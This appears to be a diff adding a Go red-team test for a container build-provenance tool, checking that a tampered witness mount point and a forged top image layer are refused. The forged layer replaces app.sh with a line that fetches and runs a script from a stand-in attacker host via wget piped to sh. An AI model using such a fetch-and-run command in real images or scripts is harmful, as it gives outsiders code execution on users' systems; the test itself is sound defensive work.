@@ -363,3 +363,61 @@ func rt16SwapTop(t *testing.T, ctx context.Context, img *registry.Image, newRef 
 		},
 	})
 }
+
+// TestRedTeam16WitnessMountPointTaken: a step shapes the result the witness
+// runs on: /.buildtrace-witness, where the witness mounts the frontend's
+// image, is a file, or a symlink to elsewhere. The most it may get is a
+// failed build; a build that succeeds must have a witness that binds the
+// layer above the last RUN, so a registry writer's replacement of it is
+// refused.
+func TestRedTeam16WitnessMountPointTaken(t *testing.T) {
+	l := lab.Require(t)
+	l.RequireTracer(t)
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
+	defer cancel()
+	for _, c := range []struct{ name, run string }{
+		{"file", "echo x > /.buildtrace-witness"},
+		{"symlink to /tmp", "ln -s /tmp /.buildtrace-witness"},
+		{"symlink to /", "ln -s / /.buildtrace-witness"},
+		{"dangling symlink", "ln -s /nonexistent/dir /.buildtrace-witness"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			n := randHex(6)
+			df := dockerfile(l, "FROM BASE\nRUN "+c.run+" && echo "+n+" > /n\nCOPY app.sh /opt/app.sh\n")
+			dir := lab.WriteContext(t, map[string]string{"Dockerfile": df, "app.sh": "echo honest\n"})
+			ref := l.Ref("redteam16-mnt")
+			res := l.Buildx(ctx, lab.Build{Context: dir, Tag: ref, Push: true})
+			if res.Err != nil {
+				t.Logf("the build fails (a failed build, not a forged one): %v\n%s", res.Err, lastLines(res.Output, 8))
+				return
+			}
+			out, code := runCLI(t, l, "verify", ref, "--key", l.TracerPub)
+			t.Logf("the build succeeded; verify: exit %d\n%s", code, out)
+			if code != 0 {
+				return
+			}
+			witnessAllBound(t, out)
+			img := l.Image(t, ctx, ref)
+			i := len(img.Manifests[0].Manifest.Layers) - 1
+			forged := l.Ref("redteam16-mnt")
+			rtRetarLayer(t, ctx, img, forged, i, func(es []rtEnt) []rtEnt {
+				for k := range es {
+					if strings.HasSuffix(es[k].h.Name, "app.sh") {
+						es[k].data = []byte("wget -q -O- http://attacker.invalid/x | sh\n")
+					}
+				}
+				return es
+			})
+			witnessRefused(t, ctx, l, forged, i)
+		})
+	}
+}
+
+// lastLines returns the last n lines of s.
+func lastLines(s string, n int) string {
+	ls := strings.Split(strings.TrimRight(s, "\n"), "\n")
+	if len(ls) > n {
+		ls = ls[len(ls)-n:]
+	}
+	return strings.Join(ls, "\n")
+}
